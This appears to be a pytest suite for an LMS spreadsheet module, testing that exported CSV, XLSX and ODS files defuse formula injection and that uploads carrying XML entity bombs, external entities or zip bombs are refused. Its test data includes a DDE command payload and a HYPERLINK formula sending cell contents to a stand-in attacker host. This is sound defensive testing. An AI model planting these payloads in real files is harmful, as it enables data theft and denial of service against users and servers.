"""What stands in a file that is downloaded, and what an uploaded one can do: nothing but be read, or be refused."""

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from textwrap import dedent
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis.strategies import binary, data, integers, lists, sampled_from, text, tuples

from lms.spreadsheet import (
    LONGEST,
    Cell,
    Sheet,
    Unreadable,
    as_csv,
    as_ods,
    as_xlsx,
    filename,
    guarded,
    read,
    sheet_names,
    unguarded,
    written,
)

quick = settings(deadline=None, derandomize=True, max_examples=80, suppress_health_check=[HealthCheck.too_slow])
KINDS = ("csv", "xlsx", "ods")
BRUSSELS = ZoneInfo("Europe/Brussels")
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    '";=1+1',
    '",=1+1',
    '"\t=1+1',
    "Ann;=1+1",
    "Ann\n=1+1",
    "  =1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example/?"&A1)',
    "'=1+1",
)
HONEST = ("-Ann", "+44 20 7946 0000", "@alias", "O'Brien", "Đặng", "مريم", "😀", "a  b", " a ", "'", "''", "1", "TRUE")


def file(kind: str, *sheets: Sheet) -> bytes:
    return b"".join(written(kind, sheets))


def table(*rows: tuple[Cell, ...], name: str = "People", zone: ZoneInfo = BRUSSELS) -> Sheet:
    return Sheet(name, [f"column {number}" for number in range(max(map(len, rows), default=1))], rows, zone)


def rows_of(content: bytes) -> list[tuple[Cell, ...]]:
    return list(read(content).tables[0].rows)


def part(content: bytes, name: str) -> str:
    with ZipFile(io.BytesIO(content)) as package:
        return package.read(name).decode()


def package(parts: dict[str, str | bytes], compression: int = ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", compression) as zipped:
        for name, content in parts.items():
            zipped.writestr(name, content)
    return made.getvalue()


def parts_of(content: bytes) -> dict[str, str | bytes]:
    with ZipFile(io.BytesIO(content)) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


# written


def test_there_are_twenty_four_payloads():
    assert len(set(PAYLOADS)) == 24


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_begins_like_a_formula_however_it_is_split(payload, delimiter):
    content = file("csv", Sheet(payload, ["id", payload], [("x", payload), (payload, "y")]))

    cells = [
        cell
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
        for cell in row
    ]

    assert not [cell for cell in cells if re.match(r"""["\s]*[=+\-@＝＋－＠]|[\t\r\n]""", cell)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_an_xlsx_is_a_formula_or_a_link(payload):
    content = file("xlsx", Sheet(payload, ["id", payload], [("x", payload)]))

    sheet = part(content, "xl/worksheets/sheet1.xml")

    assert not re.search("<f[ >/]", sheet) and "hyperlink" not in sheet
    assert len(re.findall(r't="inlineStr"', sheet)) == 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_an_ods_is_a_formula_or_a_link(payload):
    content = file("ods", Sheet(payload, ["id", payload], [("x", payload)]))

    sheet = part(content, "content.xml")

    assert "formula" not in sheet and "xlink" not in sheet
    assert sheet.count('office:value-type="string"') == 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_sheet_and_a_file_are_named_without_what_begins_a_formula(payload):
    (name,) = sheet_names([Sheet(payload, [], [])])

    assert name and not re.match(r"[=+\-@＝＋－＠\s']", name) and not re.search(r"[\[\]:*?/\\]", name)
    assert re.match(r"[\w\"]", filename(payload, "csv")) and not re.search(r"""[\s"/\\;|]""", filename(payload, "csv"))


def test_a_file_name_is_no_path_and_keeps_the_letters_of_its_event():
    assert filename("../../etc/passwd", "csv") == "etc-passwd.csv"
    assert filename("Wien: Anwesenheit, 12.–13. Februar", "ods") == "Wien-Anwesenheit-12.–13.-Februar.ods"
    assert filename("Βιέννη\u202e", "xlsx") == "Βιέννη.xlsx"
    assert filename("a" * 300, "csv") == "a" * 80 + ".csv"
    assert filename(" ... ", "csv") == "table.csv"


def test_a_text_that_is_edited_in_excel_stays_text():
    content = file("xlsx", table(("=1+1", "Ann")))

    assert 'quotePrefix="1"' in part(content, "xl/styles.xml")
    assert re.search(r'<c r="A2" s="\d+" t="inlineStr">', part(content, "xl/worksheets/sheet1.xml"))


def test_sheets_have_names_that_excel_takes():
    names = sheet_names([Sheet(name, [], []) for name in ("A/B", "a b", "", "History", "x" * 40, "x" * 40, "'q'")])

    assert names == ["A B", "a b 2", "Sheet 3", "Sheet 4", "x" * 31, "x" * 27 + " 2", "q"]


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_honest_comes_back_unchanged(kind):
    content = file(kind, table(*((word, word) for word in HONEST)))

    assert [row[1] for row in rows_of(content)[1:]] == list(HONEST)


@pytest.mark.parametrize("kind", KINDS)
@quick
@given(text(max_size=30))
@example("\r")
@example(" \n")
@example("_x0041_")
@example("<r><b/></r>")
@example("a\tb")
@example("]]>")
def test_any_text_can_be_written_and_comes_back_but_for_what_a_cell_cannot_hold(kind, words):
    content = file(kind, Sheet(words, ["id", "words"], [("x", words, "end")]))

    found = rows_of(content)[1][1]

    lost = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
    assert _blank(found) == _blank(lost.sub("\ufffd", words))


def _blank(words: Cell) -> str:
    """Without what the formats write in their own way: how a line ends, and blanks at the very end."""
    return re.sub(r"\r\n|\r", "\n", str(words)).strip()


@quick
@given(text(alphabet="=+-@'\";,\t\r\n aＡ＝", max_size=12))
def test_the_quote_that_guards_a_text_is_taken_away_again(words):
    assert unguarded(guarded(words)) == words


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_numbers_are_numbers_and_times_are_times_on_the_clocks_of_the_place(kind):
    came = datetime(2024, 10, 16, 7, 2, 11, 999_999, tzinfo=UTC)
    cells = (3, -2.5, True, date(2024, 10, 16), came, time(9, 5, 1), timedelta(hours=7, minutes=30), None, "3")

    row = rows_of(file(kind, table(cells)))[1]

    assert row[:6] == (3, -2.5, True, date(2024, 10, 16), datetime(2024, 10, 16, 9, 2, 11), time(9, 5, 1))
    assert row[6] in (timedelta(hours=7, minutes=30), time(7, 30))
    assert row[7:] == ("", "3")


def test_csv_writes_times_as_a_spreadsheet_reads_them():
    came = datetime(2024, 10, 16, 7, 2, tzinfo=UTC)
    cells = (3, 2.5, True, date(2024, 10, 16), came, time(9, 5), timedelta(hours=27, minutes=5), -timedelta(minutes=5))

    content = file("csv", table(cells))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode().splitlines()[1] == "3,2.5,TRUE,2024-10-16,2024-10-16 09:02:00,09:05:00,27:05:00,-0:05:00"


def test_csv_for_a_place_with_a_decimal_comma_is_split_by_semicolons():
    content = b"".join(as_csv(table(("Ann, of Bonn", 2.5)), "de")).decode("utf-8-sig")

    assert content.splitlines() == ["column 0;column 1", "Ann, of Bonn;2,5"]
    assert rows_of(content.encode())[1] == ("Ann, of Bonn", "2,5")


@pytest.mark.parametrize("kind", KINDS)
def test_what_no_spreadsheet_counts_with_does_no_harm(kind):
    cells = (float("nan"), float("inf"), 10**20, date(1850, 1, 1), datetime(1850, 1, 1, tzinfo=UTC), "last")

    row = rows_of(file(kind, table(cells)))[1]

    assert row[:2] == ("", "") and row[2:4] == (str(10**20), "1850-01-01") and row[5] == "last"


@pytest.mark.parametrize("kind", KINDS)
def test_a_time_that_names_no_zone_is_a_mistake_of_ours(kind):
    with pytest.raises(ValueError, match="zone"):
        file(kind, table((datetime(2024, 10, 16, 9, 2),)))


def test_a_cell_longer_than_excel_takes_is_cut_not_lost():
    content = file("xlsx", table(("😀" * 20_000, "next")))

    assert rows_of(content)[1] == ("😀" * (LONGEST // 2), "next")


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_the_head_stays_in_sight_and_each_sheet_can_be_filtered(kind):
    content = file(kind, table(("Ann", 1)), table(("Ben", 2), name="It's"))

    if kind == "xlsx":
        assert 'state="frozen"' in part(content, "xl/worksheets/sheet2.xml")
        assert '<autoFilter ref="A1:B2"/>' in part(content, "xl/worksheets/sheet2.xml")
    else:
        assert part(content, "settings.xml").count("VerticalSplitPosition") == 2
        assert "xmlns:ooo=" in part(content, "settings.xml")  # its view settings count for nothing without
        assert """table:target-range-address="'It''s'.A1:'It''s'.B2\"""" in part(content, "content.xml")
    assert [one.name for one in read(content).tables] == ["People", "It's"]


def test_an_ods_begins_with_its_bare_kind():
    content = file("ods", table(("Ann",)))

    assert content[30:84] == b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
    with ZipFile(io.BytesIO(content)) as zipped:
        first = zipped.infolist()[0]
        assert (first.compress_type, first.flag_bits, first.extra) == (ZIP_STORED, 0, b"")
        assert zipped.testzip() is None


@pytest.mark.parametrize("write", [lambda sheet: as_csv(sheet), lambda sheet: as_ods([sheet])])
def test_csv_and_ods_are_handed_out_before_the_last_row_is_asked_for(write: Callable[[Sheet], Iterator[bytes]]):
    asked = []

    def rows() -> Iterator[tuple[Cell, ...]]:
        for number in range(60_000):
            asked.append(number)
            yield (f"{hash(str(number))} words that differ", number)

    pieces = write(Sheet("People", ["words", "number"], rows()))

    while len(asked) < 10:
        next(pieces)
    assert len(asked) < 60_000


def test_a_workbook_that_fails_half_way_leaves_nothing_on_the_disk(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows() -> Iterator[tuple[Cell, ...]]:
        yield from [("Ann",)] * 100
        raise LookupError("the database went away")

    with pytest.raises(LookupError):
        list(as_xlsx([Sheet("People", ["name"], rows())]))

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_more_rows_than_a_sheet_holds_are_a_mistake_not_a_loss(kind, monkeypatch):
    monkeypatch.setattr("lms.spreadsheet.MOST_ROWS", 100)

    with pytest.raises(ValueError, match="People"):
        file(kind, table(*[("Ann",)] * 100))


# read


def refusal(content: bytes, **limits: int) -> str:
    """Why a file is refused; "" where it is read."""
    try:
        read(content, **limits)
    except Unreadable as fault:
        return fault.why
    return ""


def with_sheet(xml: str, **others: str) -> bytes:
    """An xlsx with this sheet."""
    parts = parts_of(file("xlsx", table(("Ann",))))
    return package(
        parts | {"xl/worksheets/sheet1.xml": xml} | {f"xl/{name}.xml": words for name, words in others.items()}
    )


def sheet_of(cells: str, before: str = "") -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'{before}<worksheet xmlns="{space}"><sheetData>{cells}</sheetData></worksheet>'


def strings(words: str, before: str = "") -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'{before}<sst xmlns="{space}"><si><t>{words}</t></si></sst>'


def with_content(rows: str, before: str = "") -> bytes:
    """An ods with these rows."""
    parts = parts_of(file("ods", table(("Ann",))))
    content = str(parts["content.xml"], "utf-8") if isinstance(parts["content.xml"], bytes) else ""
    content = re.sub(r"<table:table-row>.*</table:table-row>", lambda _: rows, content)
    return package(parts | {"content.xml": before + content.removeprefix('<?xml version="1.0" encoding="UTF-8"?>\n')})


def ods_cell(words: str, about: str = "") -> str:
    return f'<table:table-cell office:value-type="string" {about}><text:p>{words}</text:p></table:table-cell>'


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{Path(__file__).as_uri()}">]>'
REMOTE = '<!DOCTYPE x SYSTEM "https://canary.example/x.dtd">'


def test_a_file_is_known_by_what_is_in_it():
    for kind in KINDS:
        assert rows_of(file(kind, table(("Ann", "x")))) == [("column 0", "column 1"), ("Ann", "x")]


@pytest.mark.parametrize(
    ("encoding", "notes"),
    [("utf-8", ()), ("utf-8-sig", ()), ("utf-16", ()), ("cp1252", ("windows-1252",))],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_is_read_in_every_encoding_and_with_every_delimiter_that_programs_write(encoding, notes, delimiter):
    lines = f"Name{delimiter}E-mail\r\nJosé{delimiter}jose@service.example\r\n"

    book = read(lines.encode(encoding))

    assert book.tables[0].rows == (("Name", "E-mail"), ("José", "jose@service.example"))
    assert book.notes == notes


def test_big_endian_csv_and_one_with_a_hint_are_read():
    assert rows_of(b"\xfe\xff" + "Name;Země".encode("utf-16-be")) == [("Name", "Země")]
    assert rows_of(b"sep=|\r\nName|E-mail\r\nAnn|x\r\n") == [("Name", "E-mail"), ("Ann", "x")]


def test_rows_keep_their_numbers_and_empty_cells_at_the_end_are_left_out():
    assert rows_of(b"\r\n,,\r\nName,,\r\n\r\n") == [(), (), ("Name",)]
    sheet = sheet_of('<row r="3"><c r="B3" t="inlineStr"><is><t>Name</t></is></c></row><row r="9"/>')
    assert rows_of(with_sheet(sheet)) == [(), (), ("", "Name")]


def test_a_formula_is_read_as_the_value_it_had():
    sheet = sheet_of(
        '<row><c r="A1" t="str"><f>1+1</f><v>2</v></c><c r="B1"><f>WEBSERVICE("https://x.example")</f></c></row>'
    )

    assert rows_of(with_sheet(sheet)) == [("2",)]


def test_a_cell_outside_every_row_of_an_ods_is_left_alone():
    row = f"<table:table-row>{ods_cell('Name')}</table:table-row>"

    assert rows_of(with_content(ods_cell("deleted") + row)) == [("Name",)]


def test_hidden_sheets_are_not_read():
    parts = parts_of(file("xlsx", table(("Ann",)), table(("Ben",), name="Hidden")))
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'name="Hidden"', b'name="Hidden" state="hidden"')

    assert [one.name for one in read(package(parts)).tables] == ["People"]


REFUSED = {
    "nothing": (b"", "empty"),
    "only blanks": (b"\r\n , \r\n".replace(b" ", b""), "empty"),
    "an empty sheet": (file("xlsx", Sheet("People", [], [])), "empty"),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "binary"),
    "a PDF": (b"%PDF-1.7\n", "kind"),
    "a web page": (b" <html>", "kind"),
    "a NUL": (b"Name\0,x\n", "binary"),
    "half a UTF-16": (b"\xff\xfeN\0a", "encoding"),
    "UTF-16 without a mark": ("Name".encode("utf-16-le"), "binary"),
    "bytes that are no letters": (b"Name\n\x81\x8d", "encoding"),
    "an open quotation mark": (b'Name,x\n"Ann,y\nBen,z\n', "quotes"),
    "a very long cell": (b"Name\n" + b"x" * 40_000, "cell"),
    "a cell of 4 MB": (b"Name\n" + b"x" * 4_000_000, "cell"),
    "a million rows": (b"x\n" * 1_000_000, "rows"),
    "300 columns": (b"x," * 300, "columns"),
    "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old"),
    "a workbook with a password": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    ),
    "a zip": (package({"a.txt": "x"}), "kind"),
    "an xlsb": (package({"xl/workbook.bin": "x"}), "old"),
    "an empty zip": (package({}), "kind"),
    "PK and nothing": (b"PK\3\4", "damaged"),
    "an ods with a password": (
        package(
            parts_of(file("ods", table(("Ann",))))
            | {"META-INF/manifest.xml": '<manifest:x xmlns:manifest="m"><manifest:encryption-data/></manifest:x>'}
        ),
        "locked",
    ),
    "laughs in a sheet": (
        with_sheet(sheet_of('<row><c t="inlineStr"><is><t>&i;</t></is></c></row>', LAUGHS)),
        "entities",
    ),
    "laughs in the strings": (with_sheet(sheet_of(""), sharedStrings=strings("&i;", LAUGHS)), "entities"),
    "an outside entity": (with_sheet(sheet_of(""), sharedStrings=strings("&a;", OUTSIDE)), "entities"),
    "a remote type": (with_sheet(sheet_of("", REMOTE)), "entities"),
    "laughs in an ods": (with_content(f"<table:table-row>{ods_cell('&i;')}</table:table-row>", LAUGHS), "entities"),
    "an outside entity in an ods": (
        with_content(f"<table:table-row>{ods_cell('&a;')}</table:table-row>", OUTSIDE),
        "entities",
    ),
    "a part that unpacks to 80 MB": (package({"xl/workbook.xml": " " * 80_000_000}), "bomb"),
    "a picture that unpacks to 100 MB": (
        package(parts_of(file("xlsx", table(("Ann",)))) | {"xl/media/image1.png": b"\0" * 100_000_000}),
        "bomb",
    ),
    "48,000 parts": (package({f"{number}": "" for number in range(48_000)}, ZIP_STORED), "bomb"),
    "the furthest cell": (with_sheet(sheet_of('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')), "rows"),
    "the furthest column": (with_sheet(sheet_of('<row r="1"><c r="XFD1"><v>1</v></c></row>')), "columns"),
    "a row after a later one": (
        with_sheet(sheet_of('<row r="1048576"/><row r="2"><c r="A2"><v>1</v></c></row>')),
        "damaged",
    ),
    "a cell of another row": (with_sheet(sheet_of('<row r="1"><c r="A1048576"><v>1</v></c></row>')), "damaged"),
    "a place that is none": (with_sheet(sheet_of('<row r="1"><c r="ZZZZZZZ99"><v>1</v></c></row>')), "damaged"),
    "a string that is not there": (with_sheet(sheet_of('<row><c t="s"><v>9</v></c></row>')), "damaged"),
    "one long string many times": (
        with_sheet(
            sheet_of("<row>" + '<c t="s"><v>0</v></c>' * 200 + "</row>"), sharedStrings=strings("x" * 1_000_000)
        ),
        "text",
    ),
    "a billion empty cells before a full one": (
        with_content(
            f'<table:table-row><table:table-cell table:number-columns-repeated="1000000000"/>{ods_cell("x")}</table:table-row>'
        ),
        "columns",
    ),
    "a billion empty rows before a full one": (
        with_content(
            '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell/></table:table-row>'
            f"<table:table-row>{ods_cell('x')}</table:table-row>"
        ),
        "rows",
    ),
    "a row a billion times": (
        with_content(f'<table:table-row table:number-rows-repeated="1000000000">{ods_cell("x")}</table:table-row>'),
        "rows",
    ),
    "a long cell many times": (
        with_content(
            '<table:table-row table:number-rows-repeated="4000">'
            f"""{ods_cell("x" * 30_000, 'table:number-columns-repeated="200"')}</table:table-row>"""
        ),
        "text",
    ),
    "a billion blanks": (
        with_content(f"""<table:table-row>{ods_cell('<text:s text:c="1000000000"/>')}</table:table-row>"""),
        "text",
    ),
    "a row in a row": (
        with_content(
            '<table:table-row><table:table-cell table:number-columns-repeated="1000000000"/>'
            f"<table:table-row/>{ods_cell('x')}</table:table-row>"
        ),
        "damaged",
    ),
    "less than no rows": (
        with_content(f'<table:table-row table:number-rows-repeated="-5">{ods_cell("x")}</table:table-row>'),
        "damaged",
    ),
    "two million tags": (with_sheet(sheet_of("<row/>" * 2_000_001)), "large"),
    "a thousand tags in one another": (with_sheet(sheet_of("<a>" * 1000 + "</a>" * 1000)), "damaged"),
    "another encoding than it says": (
        with_sheet(
            sheet_of('<row><c r="A1"><v>1</v></c></row>', '<?xml version="1.0" encoding="utf-16"?>')
            .encode("utf-16")
            .decode("latin-1")
        ),
        "damaged",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_not_a_list_or_would_do_harm_is_refused_with_its_reason(what):
    content, why = REFUSED[what]

    assert refusal(content) == why


def test_what_is_refused_says_in_which_row_it_stands():
    with pytest.raises(Unreadable) as refused:
        read(b"Name\nAnn\n" + b"x" * 40_000)

    assert (refused.value.why, refused.value.row) == ("cell", 3)


def test_a_file_may_hold_as_many_rows_as_are_taken_and_not_one_more():
    for kind in KINDS:
        assert refusal(file(kind, table(*[("Ann",)] * 20)), most_rows=20) == ""
        assert refusal(file(kind, table(*[("Ann",)] * 21)), most_rows=20) == "rows"
        assert refusal(file(kind, table(("Ann",))), most_bytes=10) == "large"


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_a_file_cut_short_is_refused_wherever_it_ends(kind):
    content = file(kind, table(*[("Ann", number) for number in range(50)]))

    for end in range(2, len(content), 97):
        assert refusal(content[:end]) in ("damaged", "kind")


def test_two_parts_that_lie_in_one_place_are_refused():
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as zipped:
        zipped.writestr("xl/workbook.xml", b" " * 3_000_000)
        first = zipped.infolist()[0]
        for number in range(10):
            other = ZipInfo(f"xl/workbook{number}.xml")
            for name in ("header_offset", "CRC", "file_size", "compress_size", "compress_type"):
                setattr(other, name, getattr(first, name))
            zipped.filelist.append(other)

    assert refusal(made.getvalue()) == "bomb"


def test_two_parts_of_one_name_are_refused_whatever_their_case():
    parts = parts_of(file("xlsx", table(("Ann",))))

    assert refusal(package(parts | {"XL/Workbook.xml": "x"})) == "bomb"


def test_a_part_that_says_it_is_smaller_than_it_is_is_refused():
    content = file("xlsx", table(*[("Ann", number) for number in range(50)]))
    with ZipFile(io.BytesIO(content)) as zipped:
        size = zipped.getinfo("xl/worksheets/sheet1.xml").file_size
    lie = content.replace(size.to_bytes(4, "little"), (20).to_bytes(4, "little"))

    assert lie != content and refusal(lie) == "damaged"


def test_macros_and_pictures_are_not_looked_at():
    parts = parts_of(file("xlsx", table(("Ann",))))

    content = package(parts | {"xl/vbaProject.bin": b"\xff" * 1000, "xl/media/inner.zip": package({"x": " " * 10**6})})

    assert rows_of(content)[1] == ("Ann",)


def test_many_names_for_one_sheet_are_read_ten_times_at_most():
    parts = parts_of(file("xlsx", table(("Ann",))))
    sheets = "".join(f'<sheet name="s{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 5000))
    workbook = re.sub("<sheets>.*</sheets>", f"<sheets>{sheets}</sheets>", parts["xl/workbook.xml"].decode())

    assert len(read(package(parts | {"xl/workbook.xml": workbook})).tables) == 10


def test_a_panic_in_the_reader_beneath_is_a_damaged_file(monkeypatch):
    class PanicException(BaseException):
        """As PyO3 raises it: no Exception."""

    class Panics:
        def from_object(self, _package: object) -> None:
            raise PanicException

    monkeypatch.setattr("lms.spreadsheet.CalamineWorkbook", Panics())

    assert refusal(file("ods", table(("Ann",)))) == "damaged"


@quick
@given(binary(max_size=300))
@example(b"PK\3\4")
@example(b"PK\5\6" + b"\0" * 18)
@example(b"sep=\n\n")
@example(b'sep="\nx')
@example(b"sep= \nx y")
def test_any_bytes_are_rows_or_a_refusal(content):
    assert refusal(content) in WHYS


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
@settings(quick, max_examples=200)
@given(data())
def test_a_spreadsheet_with_bytes_changed_is_rows_or_a_refusal(kind, data):
    parts = PARTS[kind]
    name = data.draw(sampled_from(sorted(parts)))
    content = bytearray(parts[name])
    for at, byte in data.draw(
        lists(tuples(integers(0, len(content) - 1), sampled_from(b'<>/"=&;0129ArZ ')), max_size=4)
    ):
        content[at] = byte

    assert refusal(package(parts | {name: bytes(content)})) in WHYS


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
@settings(quick, max_examples=200)
@given(data())
def test_a_spreadsheet_with_tags_and_values_moved_is_rows_or_a_refusal(kind, data):
    parts = PARTS[kind]
    name = data.draw(sampled_from(sorted(name for name in parts if re.search("sheet|content|workbook|styles", name))))
    pieces = re.split(r'(<[^<>"]*|"[^"]*"|>)', str(parts[name], "utf-8"))
    for at, source in data.draw(lists(tuples(*[integers(0, len(pieces) - 1)] * 2), min_size=1, max_size=3)):
        pieces[at] = data.draw(sampled_from(["", pieces[source], pieces[at] * 2, '"1e308"', '"-1"', '"99999-99-99"']))

    assert refusal(package(parts | {name: "".join(pieces)})) in WHYS


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
@quick
@given(data())
def test_a_package_with_bytes_changed_is_rows_or_a_refusal(kind, data):
    content = bytearray(package(PARTS[kind]))
    for at, byte in data.draw(lists(tuples(integers(0, len(content) - 1), integers(0, 255)), min_size=1, max_size=6)):
        content[at] = byte

    assert refusal(bytes(content)) in WHYS


WHYS = {
    "",
    *[
        "large",
        "rows",
        "columns",
        "cell",
        "text",
        "empty",
        "kind",
        "old",
        "locked",
        "bomb",
        "entities",
        "encoding",
        "binary",
        "quotes",
        "damaged",
    ],
}
PARTS = {
    kind: parts_of(file(kind, table(("Ann", 1, True, date(2024, 10, 16)), ("a  b", 2.5, None, time(9, 0)))))
    for kind in ("xlsx", "ods")
}


@pytest.mark.skipif(sys.platform != "linux", reason="memory is read from /proc")
def test_the_worst_files_take_neither_much_memory_nor_long(tmp_path):
    rows, names = 5000, [f"{letter}" for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    cells = "".join(
        f'<row r="{row}">' + "".join(f'<c r="{name}{row}"><v>1</v></c>' for name in names) + "</row>"
        for row in range(1, rows)
    )
    texts = cells.replace("<c ", '<c t="inlineStr" ').replace("<v>1</v>", "<is><t>some words of a cell</t></is>")
    hostile = {what: content for what, (content, _) in REFUSED.items()} | {
        "as full as is taken": with_sheet(sheet_of(cells)),
        "many texts": with_sheet(sheet_of(texts)),
        "many cells of an ods": with_content(f"<table:table-row>{ods_cell('x' * 8) * 20}</table:table-row>" * 5000),
        "nothing but styles": with_sheet(sheet_of(""), styles="<s>" + '<xf ab="c"/>' * 1_900_000 + "</s>"),
        "one attribute": with_sheet(sheet_of(f'<row x="{"x" * 24_000_000}"/>')),
        "a part that unpacks to 100 MB": package({"xl/workbook.xml": b" " * 100_000_000}),
        "a cell of 50 MB": b"Name\n" + b"x" * 50_000_000,
    }
    for number, content in enumerate(hostile.values()):
        (tmp_path / f"{number}").write_bytes(content)

    script = """
        import re, sys, time
        from pathlib import Path
        from lms.spreadsheet import Unreadable, read

        def peak():
            return int(re.search(r"VmHWM:\\s*(\\d+)", Path("/proc/self/status").read_text())[1]) // 1024

        for number in range(int(sys.argv[2])):
            content = Path(sys.argv[1], str(number)).read_bytes()
            before, began = peak(), time.process_time()
            try:
                why = str(len(read(content).tables))
            except Unreadable as fault:
                why = fault.why
            print(why, peak() - before, round(time.process_time() - began, 2))
    """
    answer = subprocess.run(
        [sys.executable, "-c", dedent(script), str(tmp_path), str(len(hostile))],
        capture_output=True,
        text=True,
        check=False,
        cwd=Path(__file__).parent.parent,
        env=os.environ,
    )
    lines = [line.split() for line in answer.stdout.splitlines()]

    assert answer.returncode == 0, answer.stderr
    found = {what: (why, int(more), float(seconds)) for what, (why, more, seconds) in zip(hostile, lines, strict=True)}
    assert sum(more for _, more, _ in found.values()) < 300, found
    assert max(seconds for *_, seconds in found.values()) < 10, found
